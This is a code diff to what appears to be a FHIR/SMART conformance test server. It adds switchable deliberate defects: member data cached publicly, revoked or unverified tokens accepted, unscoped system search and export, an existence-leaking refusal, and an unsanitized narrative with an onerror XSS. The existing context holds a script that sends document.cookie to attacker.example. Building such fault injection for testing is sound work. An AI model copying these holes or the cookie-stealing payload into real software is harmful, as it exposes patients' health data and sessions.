@@ -63,6 +63,8 @@ def fhir_json(ctx: Context, body: dict[str, Any], status: int = 200,
     response = Response(json.dumps(body, separators=(",", ":")), status_code=status, headers=headers,
                         media_type=f"{media}; charset=utf-8")
     response.headers.setdefault("Cache-Control", "no-store")
+    if ctx.faults.active(Fault.MEMBER_DATA_CACHEABLE):  # the defect: member data marked for any shared cache
+        response.headers["Cache-Control"] = "public, max-age=3600"
     return response
 
 
@@ -73,7 +75,8 @@ def _as_served(ctx: Context, body: dict[str, Any]) -> dict[str, Any]:
     bad_dates = ctx.faults.active(Fault.INVALID_FHIR_DATES)
     script = ctx.faults.active(Fault.NARRATIVE_SCRIPT)
     no_relationship = ctx.faults.active(Fault.MUST_SUPPORT_DROPPED)
-    if not (unresolvable or bad_dates or script or no_relationship):
+    shared_script = ctx.faults.active(Fault.SHARED_NARRATIVE_SCRIPT)
+    if not (unresolvable or bad_dates or script or no_relationship or shared_script):
         return body
 
     def degrade(resource: Any) -> Any:
@@ -81,6 +84,10 @@ def _as_served(ctx: Context, body: dict[str, Any]) -> dict[str, Any]:
         if kind == "Patient" and script:
             div = ('<div xmlns="http://www.w3.org/1999/xhtml"><p onclick="steal()">Member</p>'
                    '<script>fetch("https://attacker.example/?c="+document.cookie)</script></div>')
+            return {**resource, "text": {"status": "generated", "div": div}}
+        if kind == "Organization" and shared_script:  # the defect: a provider-supplied narrative, never sanitized
+            div = ('<div xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="steal()"/>'
+                   f'<p>{resource.get("name", "")}</p></div>')
             return {**resource, "text": {"status": "generated", "div": div}}
         if kind == "Coverage" and no_relationship:
             return {k: v for k, v in resource.items() if k != "relationship"}
@@ -158,18 +165,21 @@ def authenticate(ctx: Context, request: Request) -> Principal:
     try:
         return _verify(ctx, token)
     except Refused:
+        parts = [p for p in request.path_params.get("rest", "").split("/") if p]
+        if ctx.faults.active(Fault.REVOCATION_IGNORED_ON_SEARCHES) and (len(parts) == 1 or parts[-1:] == ["$everything"]):
+            return _verify(ctx, token, revoked_ok=True)  # the defect: only the read path consults the revocation list
         if ctx.faults.active(Fault.REFUSAL_ECHOES_TOKEN):  # the defect: the refused credential repeated in the answer
             raise Refused(outcome(ctx, 401, "login", f"the access token {token} is not valid",
                                   {"WWW-Authenticate": f'Bearer realm="{REALM}", error="invalid_token"'})) from None
         raise
 
 
-def _verify(ctx: Context, token: str) -> Principal:
+def _verify(ctx: Context, token: str, *, revoked_ok: bool = False) -> Principal:
     opaque = opaque_access_claims(ctx, token)
     if opaque is not None:
         if opaque["exp"] < ctx.now() and not ctx.faults.active(Fault.EXPIRED_TOKEN_ACCEPTED):
             raise Refused(unauthorized(ctx, "the access token has expired"))
-        return _principal(ctx, opaque)
+        return _principal(ctx, opaque, revoked_ok=revoked_ok)
     try:
         header = jwt.get_unverified_header(token)
     except jwt.PyJWTError:
@@ -192,13 +202,13 @@ def _verify(ctx: Context, token: str) -> Principal:
         raise Refused(unauthorized(ctx, "the access token has expired")) from None
     except jwt.PyJWTError:
         raise Refused(unauthorized(ctx, "the access token is not valid")) from None
-    return _principal(ctx, claims)
+    return _principal(ctx, claims, revoked_ok=revoked_ok)
 
 
-def _principal(ctx: Context, claims: dict[str, Any]) -> Principal:
+def _principal(ctx: Context, claims: dict[str, Any], *, revoked_ok: bool = False) -> Principal:
     """Who a verified token speaks for, unless it was revoked."""
     row = ctx.store.access_token(str(claims.get("jti", "")))
-    if row is not None and row["revoked"] and not ctx.faults.active(Fault.REVOKED_TOKEN_ACCEPTED):
+    if row is not None and row["revoked"] and not (revoked_ok or ctx.faults.active(Fault.REVOKED_TOKEN_ACCEPTED)):
         raise Refused(unauthorized(ctx, "the access token was revoked"))
     patient = claims.get("patient")
     return Principal(client_id=str(claims.get("client_id", "")), scope=str(claims.get("scope", "")),
@@ -271,27 +281,46 @@ async def metadata(request: Request) -> Response:
 
 async def endpoint(request: Request) -> Response:
     """Every /fhir/{type}[/{id}[/$everything]] request."""
+    from smart_conformance.reference import fhir_search  # it imports this module
+
     ctx = ctx_of(request)
     try:
-        return await _dispatch(ctx, request)
+        response = await _dispatch(ctx, request)
     except Refused as refused:
-        return refused.response
+        response = refused.response
+    return fhir_search.as_html(ctx, request, response)
 
 
 async def _dispatch(ctx: Context, request: Request) -> Response:
     parts = [p for p in request.path_params.get("rest", "").split("/") if p]
     method = request.method
-    who = authenticate(ctx, request)
+    try:
+        who = authenticate(ctx, request)
+    except Refused:
+        everything = len(parts) == 3 and parts[0] == "Patient" and parts[2] == "$everything"
+        if not (everything and _bearer(ctx, request) and ctx.faults.active(Fault.OPERATIONS_TOKEN_UNVERIFIED)):
+            raise
+        who = Principal(client_id="", scope="patient/*.read", patient=parts[1])  # the defect: a token, any token
     if not parts:
         if method == "POST":  # batch/transaction: writes, refused under read-only scopes
             return await _write(ctx, request, who, "Bundle", ["Bundle"], method)
+        if ctx.faults.active(Fault.SYSTEM_SEARCH_SERVED):  # the defect: an unreviewed way in, with no compartment
+            every = [_entry(ctx, r, "match") for rtype in SUPPORTED_TYPES for r in ctx.data.all(rtype)]
+            return fhir_json(ctx, {"resourceType": "Bundle", "id": str(uuid.uuid4()), "type": "searchset",
+                                   "total": len(every), "entry": every})
         return outcome(ctx, 400, "not-supported", "system-level interactions are not supported")
     rtype = parts[0]
+    if parts == ["$export"] and method == "GET" and ctx.faults.active(Fault.SYSTEM_EXPORT_SERVED):
+        from smart_conformance.reference import bulk  # the defect: an unadvertised export served (bulk imports us)
+
+        return bulk.start_system_export(ctx, request)
     if rtype not in SUPPORTED_TYPES:
         if ctx.faults.active(Fault.PATH_REFLECTED_IN_HTML):  # the defect: the path segment echoed into an HTML page
             return HTMLResponse(f"<html><body><h1>Not found</h1><p>Unknown resource type {rtype}</p></body></html>",
                                 status_code=404)
         return outcome(ctx, 404, "not-supported", f"resource type {rtype!r} is not supported")
+    if rtype == "Practitioner" and ctx.faults.active(Fault.CAPABILITY_ADVERTISES_UNSERVED_TYPE):  # the defect: listed
+        return outcome(ctx, 404, "not-supported", f"resource type {rtype!r} is not supported")  # in /metadata only
     from smart_conformance.reference import (
         fhir_search,  # search and _format live there (it imports this module)
     )
@@ -418,6 +447,8 @@ def _everything(ctx: Context, who: Principal, patient_id: str) -> Response:
     if patient is None:
         return _not_found(ctx, "Patient", patient_id)
     if patient_id != who.patient and not ctx.faults.active(Fault.COMPARTMENT_LEAK_EVERYTHING):
+        if ctx.faults.active(Fault.EVERYTHING_EXISTENCE_ORACLE):  # the defect: the refusal says the member exists
+            return outcome(ctx, 403, "forbidden", f"Patient/{patient_id} belongs to another member")
         return _not_found(ctx, "Patient", patient_id)
     members = [r for rtype in SUPPORTED_TYPES for r in ctx.data.all(rtype) if ctx.data.patient_of(r) == patient_id]
     shared: list[Resource] = []
